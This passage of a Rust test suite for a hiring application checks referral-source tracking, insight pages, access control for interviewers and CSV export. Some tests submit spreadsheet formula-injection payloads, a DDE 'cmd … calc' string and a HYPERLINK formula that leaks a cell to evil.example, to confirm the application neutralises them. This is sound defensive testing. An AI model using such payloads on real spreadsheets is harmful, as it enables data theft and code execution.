//! Issue 10, items 4 to 6: where candidates come from, the insight pages
//! and who may see them, and the CSV export.

use crate::helpers::{csrf_from, spawn_app, Backend, Browser, TestApp};
use crate::on_every_backend;
use crate::pipeline::{candidate_in_review, interviewer, set_panel, user_id};
use crate::review::{job_with_kinds, NAMES};

on_every_backend!(
    a_job_links_source_survives_the_apply_flow,
    insight_shows_the_funnel_sources_and_questions,
    insight_is_for_the_owner_and_the_jobs_panel,
    a_job_without_applications_says_no_data_yet,
    the_csv_export_is_rfc4180_and_neutralises_formulas,
    only_owners_export,
    calibration_pairs_the_screen_with_the_interviewers,
    each_figure_links_to_exactly_its_candidates,
    an_interviewer_on_the_panel_follows_the_links_to_that_job_only,
    figures_across_jobs_link_to_exactly_their_candidates,
    the_demo_shows_every_figure,
);

/// Applies through the form as a browser would: the form page first (with
/// the query the link carried), then its fields, hidden ones included.
async fn apply_from(b: &Browser, slug: &str, query: &str, name: &str, email: &str) -> u16 {
    let page = b.get_text(&format!("/jobs/{slug}/apply{query}")).await;
    let token = csrf_from(&page).expect("the form has a CSRF token");
    let mut form = reqwest::multipart::Form::new()
        .text("csrf_token", token)
        .text("name", name.to_string())
        .text("email", email.to_string())
        .text("languages", "en")
        .text("fluencies", "fluent")
        .text("location", "Lisbon, Portugal")
        .text("cover_letter", "I love helping people.")
        .text("consent", "yes");
    if let Some(source) = hidden_source(&page) {
        form = form.text("source", source);
    }
    b.client
        .post(b.url(&format!("/jobs/{slug}/apply")))
        .multipart(form)
        .send()
        .await
        .unwrap()
        .status()
        .as_u16()
}

fn hidden_source(page: &str) -> Option<String> {
    let at = page.find("name=\"source\" value=\"")? + "name=\"source\" value=\"".len();
    page[at..].split('"').next().map(str::to_string)
}

async fn source_of(app: &TestApp, job_id: &str, email: &str) -> String {
    let (job_id, email) = (job_id.to_string(), email.to_string());
    app.db
        .read(move |c| rapport::db::applications::find_by_job_email(c, &job_id, &email))
        .await
        .unwrap()
        .expect("the application is stored")
        .source
}

async fn a_job_links_source_survives_the_apply_flow(backend: Backend) {
    let app = spawn_app(backend).await;
    app.sign_up_owner().await;
    let (job_id, slug) = app.publish_job(&[]).await;
    let reader = app.new_browser();

    // The public page carries the source to its Apply link, and a page
    // with someone's source is never stored by a shared cache.
    let res = reader
        .get(&format!("/jobs/{slug}?utm_source=News%20Letter"))
        .await;
    assert_eq!(
        res.headers()
            .get("cache-control")
            .map(|v| v.to_str().unwrap()),
        Some("no-store")
    );
    let page = res.text().await.unwrap();
    assert!(
        page.contains(&format!("/jobs/{slug}/apply?ref=news-letter")),
        "{page}"
    );
    let res = reader.get(&format!("/jobs/{slug}")).await;
    let cache = res
        .headers()
        .get("cache-control")
        .map(|v| v.to_str().unwrap().to_string())
        .unwrap_or_default();
    assert!(
        cache.contains("public") && !cache.contains("no-store"),
        "the plain page stays cacheable by a shared cache: {cache}"
    );
    let page = res.text().await.unwrap();
    assert!(!page.contains("?ref="));

    // The form, never cached, carries it in a hidden field filled per request.
    let form = reader
        .get_text(&format!("/jobs/{slug}/apply?ref=LinkedIn"))
        .await;
    assert_eq!(hidden_source(&form).as_deref(), Some("linkedin"));
    let plain = reader.get_text(&format!("/jobs/{slug}/apply")).await;
    assert_eq!(hidden_source(&plain), None);

    assert_eq!(
        apply_from(
            &reader,
            &slug,
            "?ref=LinkedIn",
            "Bo Brown",
            "bo@example.com"
        )
        .await,
        303
    );
    assert_eq!(source_of(&app, &job_id, "bo@example.com").await, "linkedin");
    let other = app.new_browser();
    assert_eq!(
        apply_from(&other, &slug, "", "Cy Cole", "cy@example.com").await,
        303
    );
    assert_eq!(source_of(&app, &job_id, "cy@example.com").await, "");

    // Whatever the link says, what is kept is a short plain word.
    let token = {
        let page = other.get_text(&format!("/jobs/{slug}/apply")).await;
        csrf_from(&page).unwrap()
    };
    let form = reqwest::multipart::Form::new()
        .text("csrf_token", token)
        .text("name", "Di Dee")
        .text("email", "di@example.com")
        .text("languages", "en")
        .text("fluencies", "fluent")
        .text("consent", "yes")
        .text(
            "source",
            format!("=cmd|' /C calc'!A0 <b>{}", "x".repeat(200)),
        );
    let res = other
        .client
        .post(other.url(&format!("/jobs/{slug}/apply")))
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status().as_u16(), 303);
    let kept = source_of(&app, &job_id, "di@example.com").await;
    assert!(kept.starts_with("cmd-c-calc-a0-b-x"), "{kept}");
    assert!(kept.len() <= 40 && kept.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'));
}

async fn insight_shows_the_funnel_sources_and_questions(backend: Backend) {
    let app = spawn_app(backend).await;
    // Ana: applied without a source, screened (strong answers), in review.
    let (job_id, ana_id) = candidate_in_review(&app, "unanimous").await;
    let slug = app
        .db
        .read({
            let j = job_id.clone();
            move |c| rapport::db::jobs::find(c, &j)
        })
        .await
        .unwrap()
        .unwrap()
        .slug;
    let first = app.get_text(&format!("/admin/jobs/{job_id}/insight")).await;
    assert!(first.contains("(1 application)"), "{first}");
    let bo = app.new_browser();
    assert_eq!(
        apply_from(&bo, &slug, "?ref=linkedin", "Bo Brown", "bo@example.com").await,
        303
    );

    // The stored figures follow the change at once. Handlebars escapes "=" in attributes; browsers read it back.
    let page = app
        .get_text(&format!("/admin/jobs/{job_id}/insight"))
        .await
        .replace("&#x3D;", "=");
    assert!(page.contains("<h2 id=\"funnel-h\">Funnel</h2>"), "{page}");
    assert!(page.contains("<svg"), "charts are inline SVG");
    assert!(!page.contains("No data yet</h2>"));
    // Two applications; one reached screen review.
    assert!(page.contains("Figures as of"));
    assert!(page.contains("(2 applications)"), "{page}");
    let funnel_row = |label: &str| {
        let at = page
            .find(&format!(">{label}</a></th>"))
            .unwrap_or_else(|| panic!("{label} row"));
        page[at..].split("</tr>").next().unwrap().to_string()
    };
    assert!(funnel_row("Applied").contains("<td class=\"text-right\">2</td>"));
    assert!(funnel_row("Screen review").contains("<td class=\"text-right\">1</td>"));
    assert!(funnel_row("Hired").contains("<td class=\"text-right\">0</td>"));
    // Sources, each linking to its candidates.
    assert!(page.contains(&format!(
        "/admin/jobs/{job_id}/applications?source=linkedin"
    )));
    assert!(page.contains(&format!("/admin/jobs/{job_id}/applications?source=-")));
    // The questions Ana answered, with their mean score.
    assert!(page.contains("Q1 · tier"), "{page}");
    assert!(page.contains("Screen versus interviews"));
    assert!(page.contains("No data yet: no hired or rejected candidate"));

    // The links lead to the candidates behind each figure.
    let list = app
        .get_text(&format!(
            "/admin/jobs/{job_id}/applications?source=linkedin"
        ))
        .await;
    assert!(
        list.contains("Bo Brown") && !list.contains("Ana Lima"),
        "{list}"
    );
    let list = app
        .get_text(&format!("/admin/jobs/{job_id}/applications?source=-"))
        .await;
    assert!(list.contains("Ana Lima") && !list.contains("Bo Brown"));
    let list = app
        .get_text(&format!(
            "/admin/jobs/{job_id}/applications?reached=screen_review"
        ))
        .await;
    assert!(list.contains(&format!("/admin/applications/{ana_id}")));
    assert!(!list.contains("Bo Brown"));

    // Across jobs: the same job, listed with its counts.
    let across = app.get_text("/admin/insight").await;
    assert!(across.contains(&format!("/admin/jobs/{job_id}/insight")));
    assert!(across.contains("Funnel"));

    // The figures themselves, computed from the database.
    let figures = app
        .db
        .read({
            let j = job_id.clone();
            move |c| rapport::db::insight::compute(c, &rapport::db::insight::Scope::Job(j))
        })
        .await
        .unwrap();
    assert_eq!(figures.applications, 2);
    let reached: Vec<usize> = figures.funnel.iter().map(|s| s.reached).collect();
    assert_eq!(reached[0], 2);
    assert_eq!(reached[2], 1, "only Ana reached screen review");
    assert!(!figures.items.is_empty() && figures.items.iter().all(|i| i.answers == 1));
    assert!(figures.items.iter().all(|i| !i.prompt.is_empty()));
    assert!(!figures.tiers.is_empty());
}

async fn insight_is_for_the_owner_and_the_jobs_panel(backend: Backend) {
    let app = spawn_app(backend).await;
    let (job_id, _) = candidate_in_review(&app, "unanimous").await;
    let ivy = interviewer(&app, "ivy@example.com").await;
    let path = format!("/admin/jobs/{job_id}/insight");

    // Not on the panel: refused, and nothing of the job across jobs.
    assert_eq!(ivy.get(&path).await.status().as_u16(), 403);
    let across = ivy.get_text("/admin/insight").await;
    assert!(across.contains("No data yet"), "{across}");
    assert!(!across.contains(&job_id));

    // On the panel: the job's figures, linking to the job's list.
    let fran = user_id(&app, crate::helpers::OWNER_EMAIL).await;
    let ivy_id = user_id(&app, "ivy@example.com").await;
    set_panel(&app, &job_id, &[&fran, &ivy_id], &[]).await;
    let res = ivy.get(&path).await;
    assert_eq!(res.status().as_u16(), 200);
    assert_eq!(
        res.headers()
            .get("cache-control")
            .map(|v| v.to_str().unwrap()),
        Some("no-store")
    );
    let page = res.text().await.unwrap();
    assert!(page.contains("Funnel"));
    assert!(page.contains(&format!("/admin/jobs/{job_id}/applications?")));
    assert!(!page.contains("applications.csv"));
    let across = ivy.get_text("/admin/insight").await;
    assert!(
        across.contains(&format!("/admin/jobs/{job_id}/insight")),
        "{across}"
    );

    // No session: sign in first. Unknown job: not found.
    let res = app.anonymous().get(app.url(&path)).send().await.unwrap();
    assert_eq!(res.status().as_u16(), 303);
    assert!(crate::helpers::location(&res).starts_with("/login"));
    assert_eq!(
        app.get("/admin/jobs/nope/insight").await.status().as_u16(),
        404
    );
}

async fn a_job_without_applications_says_no_data_yet(backend: Backend) {
    let app = spawn_app(backend).await;
    app.sign_up_owner().await;
    let (job_id, _) = app.publish_job(&[]).await;
    let page = app.get_text(&format!("/admin/jobs/{job_id}/insight")).await;
    assert!(page.contains("No data yet"), "{page}");
    assert!(!page.contains("<svg"), "no empty charts");
    let across = app.get_text("/admin/insight").await;
    assert!(across.contains("No data yet"));
}

async fn the_csv_export_is_rfc4180_and_neutralises_formulas(backend: Backend) {
    let app = spawn_app(backend).await;
    let (job_id, ana_id) = candidate_in_review(&app, "unanimous").await;
    let slug = app
        .db
        .read({
            let j = job_id.clone();
            move |c| rapport::db::jobs::find(c, &j)
        })
        .await
        .unwrap()
        .unwrap()
        .slug;
    let evil = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click, please\")";
    let mallory = app.new_browser();
    assert_eq!(
        apply_from(&mallory, &slug, "?ref=board", evil, "mallory@example.com").await,
        303
    );

    let res = app
        .get(&format!("/admin/jobs/{job_id}/applications.csv"))
        .await;
    assert_eq!(res.status().as_u16(), 200);
    let headers = res.headers().clone();
    assert!(headers["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/csv; charset=utf-8"));
    assert!(headers["content-disposition"]
        .to_str()
        .unwrap()
        .starts_with("attachment"));
    assert_eq!(headers["cache-control"], "no-store");
    let body = res.text().await.unwrap();
    assert!(body.starts_with("application_id,name,email,stage,source,"));
    assert!(
        body.contains("\r\n") && !body.replace("\r\n", "").contains('\n'),
        "CRLF line ends"
    );

    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let col = |name: &str| {
        header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("{name}"))
    };
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 2);
    assert!(rows.iter().all(|r| r.len() == header.len()));
    let ana = rows
        .iter()
        .find(|r| &r[col("application_id")] == ana_id.as_str())
        .unwrap();
    assert_eq!(&ana[col("name")], "Ana Lima");
    assert_eq!(&ana[col("stage")], "screen_review");
    assert!(!ana[col("entered_screen_review")].is_empty());
    assert!(ana[col("entered_screen_review")].ends_with('Z'));
    assert_eq!(&ana[col("screen_passed")], "yes");
    let empathy: f64 = ana[col("screen_empathy_0_2")].parse().unwrap();
    assert!((0.0..=2.0).contains(&empathy));
    assert!(ana[col("screen_score_percent")].parse::<u32>().unwrap() > 50);
    let m = rows
        .iter()
        .find(|r| &r[col("email")] == "mallory@example.com")
        .unwrap();
    // The formula is kept as text, whole: a spreadsheet shows it, never runs it.
    assert_eq!(&m[col("name")], format!("'{evil}").as_str());
    assert_eq!(&m[col("source")], "board");
    assert_eq!(&m[col("screen_passed")], "");
    assert!(body
        .contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click, please\"\")\""));
}

async fn only_owners_export(backend: Backend) {
    let app = spawn_app(backend).await;
    let (job_id, _) = candidate_in_review(&app, "unanimous").await;
    let path = format!("/admin/jobs/{job_id}/applications.csv");
    // Even on the job's panel, an interviewer cannot take every candidate's details away.
    let ivy = interviewer(&app, "ivy@example.com").await;
    let fran = user_id(&app, crate::helpers::OWNER_EMAIL).await;
    let ivy_id = user_id(&app, "ivy@example.com").await;
    set_panel(&app, &job_id, &[&fran, &ivy_id], &[]).await;
    let res = ivy.get(&path).await;
    assert_eq!(res.status().as_u16(), 403);
    assert!(!res.text().await.unwrap().contains("ana@example.com"));
    let res = app.anonymous().get(app.url(&path)).send().await.unwrap();
    assert_eq!(res.status().as_u16(), 303);
    assert_eq!(
        app.get("/admin/jobs/nope/applications.csv")
            .await
            .status()
            .as_u16(),
        404
    );
}

async fn calibration_pairs_the_screen_with_the_interviewers(backend: Backend) {
    let app = spawn_app(backend).await;
    let (job_id, ana_id) = candidate_in_review(&app, "unanimous").await;
    let fran = user_id(&app, crate::helpers::OWNER_EMAIL).await;
    // Ana is hired (the way there is tested in pipeline.rs) and was rated
    // by Fran twice: only the latest scorecard counts.
    let (a, f) = (ana_id.clone(), fran.clone());
    app.db
        .write(move |c| {
            use rapport::domain::application::Stage;
            let now = rapport::db::now();
            rapport::db::applications::move_stage(
                c,
                &a,
                Stage::ScreenReview,
                Stage::Hired,
                "test",
                "",
                now,
            )?;
            for (empathy, curiosity) in [(1, 1), (4, 3)] {
                let r = rapport::db::scorecards::Ratings {
                    empathy,
                    curiosity,
                    humility: 3,
                    dedication: 3,
                    technical: 3,
                    recommendation: 4,
                };
                rapport::db::scorecards::submit(c, &a, None, &f, &r, "{}", "", now)?;
            }
            Ok(())
        })
        .await
        .unwrap();
    let figures = app
        .db
        .read({
            let j = job_id.clone();
            move |c| rapport::db::insight::compute(c, &rapport::db::insight::Scope::Job(j))
        })
        .await
        .unwrap();
    let points = &figures.calibration.points;
    assert_eq!(points.len(), 1);
    assert!(points[0].hired);
    assert_eq!(points[0].interview_empathy, 4.0);
    assert_eq!(points[0].interview_curiosity, 3.0);
    assert!((0.0..=2.0).contains(&points[0].auto_empathy));
    assert_eq!(figures.calibration.empathy.value, None);
    assert_eq!(figures.calibration.empathy.needed, Some(10));
    let page = app.get_text(&format!("/admin/jobs/{job_id}/insight")).await;
    assert!(
        page.contains("Not enough decided candidates yet: 1 of the 10 needed."),
        "{page}"
    );
    assert_eq!(
        page.matches("<circle").count(),
        2,
        "one dot per scatter plot"
    );
    assert!(figures.time_to_hire.is_some());
}

/// A page as a browser reads its attributes back (handlebars escapes `=`
/// and `&` in them).
fn unescaped(page: &str) -> String {
    page.replace("&#x3D;", "=").replace("&amp;", "&")
}

/// Which of `names` the job's applications list shows under `query`, as
/// `who` sees it.
async fn listed(who: &Browser, job_id: &str, query: &str, names: &[&str]) -> Vec<String> {
    listed_at(
        who,
        &format!("/admin/jobs/{job_id}/applications?{query}"),
        names,
    )
    .await
}

/// Which of `names` the applications list at `path` shows, as `who` sees it.
async fn listed_at(who: &Browser, path: &str, names: &[&str]) -> Vec<String> {
    let res = who.get(path).await;
    assert_eq!(res.status().as_u16(), 200, "{path}");
    let page = res.text().await.unwrap();
    names
        .iter()
        .filter(|n| page.contains(**n))
        .map(|n| n.to_string())
        .collect()
}

async fn figures_of(app: &TestApp, job_id: &str) -> rapport::domain::insight::Insight {
    let j = job_id.to_string();
    app.db
        .read(move |c| rapport::db::insight::compute(c, &rapport::db::insight::Scope::Job(j)))
        .await
        .unwrap()
}

/// Moves a candidate to `to` from wherever they are, and with `rating`
/// gives them the owner's scorecard.
async fn decide(app: &TestApp, job_id: &str, name: &str, to: &str, rating: Option<i32>) {
    let fran = user_id(app, crate::helpers::OWNER_EMAIL).await;
    let (j, n, to) = (job_id.to_string(), name.to_string(), to.to_string());
    app.db
        .write(move |c| {
            use rapport::domain::application::Stage;
            let q = rapport::db::applications::ListQuery {
                stage: None,
                search: Some(n.clone()),
                sort: rapport::db::applications::Sort::Name,
                cursor: rapport::db::applications::Cursor::First,
                per_page: 5,
            };
            let (rows, _) = rapport::db::applications::list_for_job(c, &j, &q)?;
            let a = rows.into_iter().find(|a| a.name == n).unwrap();
            let now = rapport::db::now();
            let to = Stage::parse(&to).unwrap();
            if a.stage() != to {
                assert!(rapport::db::applications::move_stage(
                    c,
                    &a.id,
                    a.stage(),
                    to,
                    "test",
                    "",
                    now
                )?);
            }
            if let Some(r) = rating {
                let ratings = rapport::db::scorecards::Ratings {
                    empathy: r,
                    curiosity: r,
                    humility: 3,
                    dedication: 3,
                    technical: 3,
                    recommendation: 3,
                };
                rapport::db::scorecards::submit(c, &a.id, None, &fran, &ratings, "{}", "", now)?;
            }
            Ok::<_, rapport::db::DbError>(())
        })
        .await
        .unwrap();
}

async fn each_figure_links_to_exactly_its_candidates(backend: Backend) {
    let app = spawn_app(backend).await;
    // Zoltan strong, Yusra weak, Xavier strong on tier 1 only, Wilma
    // strong, Viggo never answered.
    let job_id = job_with_kinds(&app, &["strong", "weak", "tier1", "strong", "none"]).await;
    let names = &NAMES[..5];
    let [zoltan, yusra, xavier, wilma, _viggo] = [names[0], names[1], names[2], names[3], names[4]];
    decide(&app, &job_id, zoltan, "hired", Some(4)).await;
    decide(&app, &job_id, yusra, "rejected", Some(1)).await;
    decide(&app, &job_id, wilma, "hired", None).await;

    let figures = figures_of(&app, &job_id).await;
    let page = unescaped(&app.get_text(&format!("/admin/jobs/{job_id}/insight")).await);
    let base = format!("/admin/jobs/{job_id}/applications?");
    let sorted = |mut v: Vec<String>| {
        v.sort();
        v
    };
    let of = |v: &[&str]| sorted(v.iter().map(|s| s.to_string()).collect());

    // Pass rate per tier: every row links to who took the tier, who
    // passed it and who did not, and each list is exactly what it counts.
    let tier = |n: u8| *figures.tiers.iter().find(|t| t.tier == n).unwrap();
    assert_eq!((tier(1).rounds, tier(1).passed), (4, 3));
    assert_eq!((tier(2).rounds, tier(2).passed), (4, 2));
    for t in &figures.tiers {
        for (query, count) in [
            (format!("tier={}", t.tier), t.rounds),
            (format!("tier={}&outcome=passed", t.tier), t.passed),
            (
                format!("tier={}&outcome=failed", t.tier),
                t.rounds - t.passed,
            ),
        ] {
            assert!(page.contains(&format!("href=\"{base}{query}\"")), "{query}");
            assert_eq!(
                listed(&app.browser, &job_id, &query, names).await.len(),
                count,
                "{query}"
            );
        }
    }
    assert_eq!(
        sorted(listed(&app.browser, &job_id, "tier=1", names).await),
        of(&[zoltan, yusra, xavier, wilma])
    );
    assert_eq!(
        sorted(listed(&app.browser, &job_id, "tier=1&outcome=passed", names).await),
        of(&[zoltan, xavier, wilma])
    );
    assert_eq!(
        listed(&app.browser, &job_id, "tier=1&outcome=failed", names).await,
        of(&[yusra])
    );
    assert_eq!(
        sorted(listed(&app.browser, &job_id, "tier=2&outcome=passed", names).await),
        of(&[zoltan, wilma])
    );
    assert_eq!(
        sorted(listed(&app.browser, &job_id, "tier=2&outcome=failed", names).await),
        of(&[yusra, xavier])
    );
    // The narrowing is kept across pages and searches, and said in words.
    let list = app.get_text(&format!("{base}tier=2&outcome=failed")).await;
    assert!(list.contains("did not pass screening tier 2"), "{list}");
    assert!(list.contains("name=\"outcome\" value=\"failed\""));

    // Each question links to the candidates who answered it.
    for item in &figures.items {
        let query = format!("answered={}", item.question);
        assert!(page.contains(&format!("href=\"{base}{query}\"")), "{query}");
        let who = listed(&app.browser, &job_id, &query, names).await;
        assert_eq!(who.len(), item.answers, "{query}");
        assert_eq!(sorted(who), of(&[zoltan, yusra, xavier, wilma]));
    }
    assert!(
        listed(&app.browser, &job_id, "answered=no-such-question", names)
            .await
            .is_empty()
    );

    // Screen versus interviews: its dots are the decided candidates with
    // a scorecard (Wilma was hired without one).
    assert_eq!(figures.calibration.points.len(), 2);
    for query in [
        "calibrated=1",
        "stage=hired&calibrated=1",
        "stage=rejected&calibrated=1",
    ] {
        assert!(page.contains(&format!("href=\"{base}{query}\"")), "{query}");
    }
    assert_eq!(
        sorted(listed(&app.browser, &job_id, "calibrated=1", names).await),
        of(&[zoltan, yusra])
    );
    assert_eq!(
        listed(&app.browser, &job_id, "stage=hired&calibrated=1", names).await,
        of(&[zoltan])
    );
    assert_eq!(
        listed(&app.browser, &job_id, "stage=rejected&calibrated=1", names).await,
        of(&[yusra])
    );
}

async fn an_interviewer_on_the_panel_follows_the_links_to_that_job_only(backend: Backend) {
    let app = spawn_app(backend).await;
    let job_id = job_with_kinds(&app, &["strong", "weak"]).await;
    let (other_job, other_slug) = app.publish_job(&[]).await;
    assert_eq!(
        apply_from(
            &app.new_browser(),
            &other_slug,
            "?ref=board",
            "Bo Brown",
            "bo@example.com"
        )
        .await,
        303
    );
    let ivy = interviewer(&app, "ivy@example.com").await;
    let fran = user_id(&app, crate::helpers::OWNER_EMAIL).await;
    let ivy_id = user_id(&app, "ivy@example.com").await;
    set_panel(&app, &job_id, &[&fran, &ivy_id], &[]).await;

    // Her job's figures link to its list, and every link opens for her
    // with that job's candidates only.
    let page = unescaped(&ivy.get_text(&format!("/admin/jobs/{job_id}/insight")).await);
    let doc = scraper::Html::parse_document(&page);
    let sel = scraper::Selector::parse("a[href*='/applications?']").unwrap();
    let links: Vec<String> = doc
        .select(&sel)
        .map(|a| a.value().attr("href").unwrap().to_string())
        .collect();
    assert!(links.len() > 10, "{links:?}");
    assert!(links.iter().any(|l| l.contains("tier=1&outcome=passed")));
    for link in &links {
        assert!(
            link.starts_with(&format!("/admin/jobs/{job_id}/applications?")),
            "{link}"
        );
        let res = ivy.get(link).await;
        assert_eq!(res.status().as_u16(), 200, "{link}");
        let list = res.text().await.unwrap();
        assert!(!list.contains("Bo Brown"), "{link}");
        assert!(
            !list.contains("applications.csv"),
            "the export stays the owner's"
        );
        assert!(!list.contains("/edit\""));
    }
    assert_eq!(listed(&ivy, &job_id, "tier=1", &NAMES[..2]).await.len(), 2);
    let all = ivy
        .get_text(&format!("/admin/jobs/{job_id}/applications"))
        .await;
    assert!(all.contains(NAMES[0]) && all.contains(NAMES[1]) && !all.contains("Bo Brown"));

    // Another job's insight and list: refused, whatever the filters.
    for path in [
        format!("/admin/jobs/{other_job}/insight"),
        format!("/admin/jobs/{other_job}/applications"),
        format!("/admin/jobs/{other_job}/applications?source=board"),
        format!("/admin/jobs/{other_job}/applications?tier=1"),
    ] {
        let res = ivy.get(&path).await;
        assert_eq!(res.status().as_u16(), 403, "{path}");
        assert!(!res.text().await.unwrap().contains("Bo Brown"));
    }
    // The owner still sees both.
    assert!(app
        .get_text(&format!(
            "/admin/jobs/{other_job}/applications?source=board"
        ))
        .await
        .contains("Bo Brown"));
}

/// The links of a page that lead to an applications list.
fn list_links(page: &str) -> Vec<String> {
    let doc = scraper::Html::parse_document(page);
    let sel = scraper::Selector::parse("a[href*='applications?']").unwrap();
    doc.select(&sel)
        .map(|a| a.value().attr("href").unwrap().to_string())
        .collect()
}

async fn figures_across_jobs_link_to_exactly_their_candidates(backend: Backend) {
    let app = spawn_app(backend).await;
    // One job with Zoltan (strong), Yusra (weak) and Xavier (tier 1 only);
    // another with Bo, who came from the board and answered nothing.
    let job_id = job_with_kinds(&app, &["strong", "weak", "tier1"]).await;
    let [zoltan, yusra, xavier] = [NAMES[0], NAMES[1], NAMES[2]];
    let (other_job, other_slug) = app.publish_job(&[]).await;
    let bo = "Bo Brown";
    assert_eq!(
        apply_from(
            &app.new_browser(),
            &other_slug,
            "?ref=board",
            bo,
            "bo@example.com"
        )
        .await,
        303
    );
    decide(&app, &job_id, zoltan, "hired", Some(4)).await;
    decide(&app, &job_id, yusra, "rejected", Some(1)).await;
    let names = &[zoltan, yusra, xavier, bo];
    let sorted = |mut v: Vec<String>| {
        v.sort();
        v
    };
    let of = |v: &[&str]| sorted(v.iter().map(|s| s.to_string()).collect());

    let figures = app
        .db
        .read(|c| rapport::db::insight::compute(c, &rapport::db::insight::Scope::All))
        .await
        .unwrap();
    let page = unescaped(&app.get_text("/admin/insight").await);
    let base = "/admin/applications?";
    // Every figure across jobs links to the list across jobs; only the
    // table of jobs links to each job's own list (its hired candidates).
    let (links, per_job): (Vec<String>, Vec<String>) = list_links(&page)
        .into_iter()
        .partition(|l| l.starts_with(base));
    assert!(links.len() > 10, "{links:?}");
    assert_eq!(
        sorted(per_job),
        sorted(vec![
            format!("/admin/jobs/{job_id}/applications?stage=hired"),
            format!("/admin/jobs/{other_job}/applications?stage=hired"),
        ])
    );
    let count = |path: String| {
        let browser = &app.browser;
        async move { listed_at(browser, &path, names).await }
    };

    // The funnel: each step lists exactly the applications that reached it.
    for step in &figures.funnel {
        let query = format!("reached={}", step.stage.as_str());
        assert!(links.contains(&format!("{base}{query}")), "{query}");
        assert_eq!(
            count(format!("{base}{query}")).await.len(),
            step.reached,
            "{query}"
        );
    }
    assert_eq!(
        sorted(count(format!("{base}reached=applied")).await),
        of(names)
    );
    // Sources: the board's link and the links without one.
    assert_eq!(count(format!("{base}source=board")).await, of(&[bo]));
    assert_eq!(
        sorted(count(format!("{base}source=-")).await),
        of(&[zoltan, yusra, xavier])
    );
    // Tiers, questions and the calibration, counted as the figures count.
    for t in &figures.tiers {
        for (query, n) in [
            (format!("tier={}", t.tier), t.rounds),
            (format!("tier={}&outcome=passed", t.tier), t.passed),
            (
                format!("tier={}&outcome=failed", t.tier),
                t.rounds - t.passed,
            ),
        ] {
            assert!(links.contains(&format!("{base}{query}")), "{query}");
            assert_eq!(count(format!("{base}{query}")).await.len(), n, "{query}");
        }
    }
    for item in &figures.items {
        let query = format!("answered={}", item.question);
        assert_eq!(
            count(format!("{base}{query}")).await.len(),
            item.answers,
            "{query}"
        );
    }
    assert_eq!(
        sorted(count(format!("{base}calibrated=1")).await),
        of(&[zoltan, yusra])
    );
    assert_eq!(
        count(format!("{base}stage=hired&calibrated=1")).await,
        of(&[zoltan])
    );
    // The list says which job each candidate applied to.
    let all = app.get_text("/admin/applications").await;
    assert!(all.contains(&format!("/admin/jobs/{other_job}/applications")));
    assert!(all.contains(&format!("/admin/jobs/{job_id}/applications")));

    // An interviewer on the first job's panel only: the same links show
    // that job's candidates and nothing of the other, whatever the filter.
    let ivy = interviewer(&app, "ivy@example.com").await;
    let fran = user_id(&app, crate::helpers::OWNER_EMAIL).await;
    let ivy_id = user_id(&app, "ivy@example.com").await;
    set_panel(&app, &job_id, &[&fran, &ivy_id], &[]).await;
    let her_page = unescaped(&ivy.get_text("/admin/insight").await);
    let her_links = list_links(&her_page);
    assert!(her_links.len() > 10, "{her_links:?}");
    assert!(!her_page.contains(&other_job), "another job's figures");
    for link in &her_links {
        assert!(
            !listed_at(&ivy, link, &[bo]).await.contains(&bo.to_string()),
            "{link}"
        );
    }
    assert!(listed_at(&ivy, &format!("{base}source=board"), names)
        .await
        .is_empty());
    assert_eq!(
        sorted(listed_at(&ivy, "/admin/applications", names).await),
        of(&[zoltan, yusra, xavier])
    );
    // Someone on no panel sees an empty list; no session, the sign-in page.
    let olga = interviewer(&app, "olga@example.com").await;
    assert!(listed_at(&olga, "/admin/applications", names)
        .await
        .is_empty());
    let res = app.new_browser().get("/admin/applications").await;
    assert!(res.status().is_redirection() || res.status().as_u16() == 401);
}

async fn the_demo_shows_every_figure(backend: Backend) {
    let app = spawn_app(backend).await;
    app.sign_up_owner().await;
    let library = rapport::questionnaires::Library::load(std::path::Path::new(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/questionnaires"
    )));
    rapport::demo::load(&app.db, &library, &app.address).unwrap();
    let jobs = app.db.read(rapport::db::jobs::list_all).await.unwrap();
    let mut reviewed = None;
    for job in &jobs {
        let id = job.id.clone();
        if app
            .db
            .read(move |c| rapport::db::reviews::settings(c, &id))
            .await
            .unwrap()
            .enabled
        {
            reviewed = Some(job.id.clone());
        }
    }
    let job_id = reviewed.expect("a demo job in review mode");

    let page = app.get_text(&format!("/admin/jobs/{job_id}/insight")).await;
    assert!(!page.contains("No data yet"), "{page}");
    assert!(!page.contains("Not enough decided candidates"), "{page}");
    assert!(!page.contains("not enough answers yet"), "{page}");
    for figure in [
        "funnel-h",
        "time-h",
        "tiers-h",
        "sources-h",
        "items-h",
        "cal-h",
    ] {
        let at = page.find(&format!("id=\"{figure}\"")).unwrap();
        let section = page[at..].split("</section>").next().unwrap();
        assert!(section.contains("<svg"), "{figure} has a chart");
    }
    // Both correlations with their interval, and a dot per decided candidate.
    let page = unescaped(&page);
    for dim in ["Empathy", "Curiosity"] {
        let at = page.find(&format!("<figcaption>{dim}: ")).unwrap();
        let caption = page[at..].split("</figcaption>").next().unwrap();
        assert!(
            caption.contains("ρ = ") && caption.contains("95% interval"),
            "{caption}"
        );
    }
    let figures = figures_of(&app, &job_id).await;
    assert!(figures.calibration.points.len() >= 10);
    assert!(figures.calibration.points.iter().any(|p| p.hired));
    assert!(figures.calibration.points.iter().any(|p| !p.hired));
    assert!(figures.time_to_hire.is_some());
    assert!(figures.sources.len() > 1);
    assert!(
        figures
            .stage_times
            .iter()
            .filter(|t| t.spread.is_some())
            .count()
            >= 3
    );

    // Agreement: a kappa with its interval for the question two reviewers
    // went through, while others are still in progress.
    let agreement = app
        .get_text(&format!("/admin/jobs/{job_id}/agreement"))
        .await;
    let first = agreement
        .split("<article class=\"card stack\">")
        .nth(1)
        .expect("a question's figures");
    assert!(first.contains("Question 1 "), "{first}");
    let between = first
        .split("<th scope=\"row\">Reviewers")
        .nth(1)
        .unwrap()
        .split("</tr>")
        .next()
        .unwrap();
    assert_eq!(between.matches("95% CI").count(), 2, "{between}");
